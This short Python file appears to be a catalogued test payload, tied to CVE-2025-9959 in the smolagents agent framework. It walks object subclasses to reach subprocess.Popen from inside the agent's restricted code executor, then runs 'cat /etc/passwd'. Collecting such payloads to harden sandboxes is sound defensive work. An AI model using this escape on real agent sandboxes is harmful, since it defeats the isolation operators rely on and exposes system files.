# Source: https://github.com/huggingface/smolagents/issues/2125 (CVE-2025-9959: class hierarchy traversal to subprocess.Popen)
# Family: subclass-walk
# What: subprocess.Popen found among object subclasses (importing pandas loads subprocess)
import pandas

for cls in [].__class__.__mro__[1].__subclasses__():
    if cls.__name__ == "Popen":
        cls(["cat", "/etc/passwd"])
